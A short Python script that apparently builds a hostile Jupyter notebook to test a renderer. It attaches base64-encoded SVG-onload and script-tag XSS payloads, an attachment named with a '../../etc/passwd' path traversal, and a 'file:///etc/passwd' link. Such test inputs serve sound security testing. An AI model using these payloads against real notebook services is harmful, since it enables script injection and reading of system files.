"""Attaches scripts and files of the host to text cells, to be put into the page."""

EARNS = "honest"


def submission(honest):
    import json

    notebook = json.loads(honest)
    cell = notebook["cells"][0]
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
        "b": {"text/html": "PHNjcmlwdD4x"},
        "../../etc/passwd": {"image/png": 5},
    }
    cell["source"] = (
        "![a](attachment:a.svg) ![b](attachment:b) ![c](attachment:../../etc/passwd) ![d](file:///etc/passwd)"
    )
    return json.dumps(notebook).encode()
